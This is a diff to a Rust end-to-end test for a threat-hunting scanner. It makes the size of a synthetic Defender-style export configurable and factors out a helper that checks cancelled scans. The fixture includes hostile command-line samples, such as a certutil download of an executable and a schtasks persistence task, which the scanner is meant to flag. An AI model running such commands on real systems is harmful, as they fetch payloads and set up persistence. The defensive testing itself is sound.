@@ -18,8 +18,9 @@ use cmdhunt_e2e::{ensure, ensure_eq, on_both_targets, Error};
 /// Records in the generated export (about 250 MB).
 const RECORDS: u64 = 1_000_000;
 
-/// A Defender-shaped export: one record in 40 flagged, each flag in turn.
-fn write_export(path: &std::path::Path) -> Result<(), Error> {
+/// A Defender-shaped export of `records` records: one in 40 flagged, each
+/// flag in turn.
+pub(crate) fn write_export(path: &std::path::Path, records: u64) -> Result<(), Error> {
     let flagged = [
         "cmd.exe /c certutil -urlcache -f http://10.0.0.1/a a.exe",
         "cmd.exe /c schtasks /create /tn t /tr c:\\t.exe /sc daily",
@@ -32,7 +33,7 @@ fn write_export(path: &std::path::Path) -> Result<(), Error> {
         out,
         "Timestamp,DeviceName,AccountName,ActionType,FileName,ProcessCommandLine,InitiatingProcessFileName,InitiatingProcessCommandLine,FolderPath"
     )?;
-    for n in 0..RECORDS {
+    for n in 0..records {
         let (secs, k) = (n * 3, (n / 40) as usize % flagged.len());
         let (command, parent) = if n % 40 == 0 {
             (
@@ -79,8 +80,7 @@ tick();
 async fn a_cancelled_file_counts_its_rows(page: &Page) -> Result<(), Error> {
     let dir = TempDir::new("cancel")?;
     let path = dir.path().join("big-export.csv");
-    write_export(&path)?;
-    let size = std::fs::metadata(&path)?.len();
+    write_export(&path, RECORDS)?;
     page.choose_window("all").await?;
     page.pick(std::slice::from_ref(&path)).await?;
     let clicked = page
@@ -93,6 +93,18 @@ async fn a_cancelled_file_counts_its_rows(page: &Page) -> Result<(), Error> {
         Some("clicked"),
         "cancel on the first rows"
     );
+    check_cancelled(page, &path).await.map(|_| ())
+}
+
+/// The only file on the page, `path`, was cancelled: its status says
+/// "cancelled at byte N of M"; its rows, summary line, chips and exported
+/// rows are the core's account of exactly its first N bytes. Returns N.
+pub(crate) async fn check_cancelled(page: &Page, path: &std::path::Path) -> Result<u64, Error> {
+    let size = std::fs::metadata(path)?.len();
+    let name = path
+        .file_name()
+        .and_then(|n| n.to_str())
+        .ok_or("a file name")?;
     let status = page
         .until(
             "the file to be cancelled",
@@ -118,9 +130,9 @@ async fn a_cancelled_file_counts_its_rows(page: &Page) -> Result<(), Error> {
     );
 
     // The core's account of exactly those bytes.
-    let bytes = std::fs::read(&path)?;
+    let bytes = std::fs::read(path)?;
     let rule = CompiledRule::new();
-    let mut scan = FileScan::new(&rule, 0, "big-export.csv", None);
+    let mut scan = FileScan::new(&rule, 0, name, None);
     scan.push(&bytes[..at as usize]);
     let want = scan.summary().clone();
     let rows = page.settled_count().await?;
@@ -169,13 +181,14 @@ async fn a_cancelled_file_counts_its_rows(page: &Page) -> Result<(), Error> {
     let csv = std::fs::read_to_string(&csv_path)?;
     let lines: Vec<&str> = csv.lines().skip(1).collect();
     ensure_eq!(lines.len(), rows, "exported rows");
-    let mark = format!("big-export.csv (partial: cancelled at byte {at} of {size})");
+    let mark = format!("{name} (partial: cancelled at byte {at} of {size})");
     ensure!(
         lines.iter().all(|l| l.contains(&mark)),
         "every exported row names the file as partial ({mark}): {:?}",
         lines.first()
     );
-    Ok(())
+    std::fs::remove_file(&csv_path)?;
+    Ok(at)
 }
 
 on_both_targets!(a_cancelled_file_counts_its_rows);
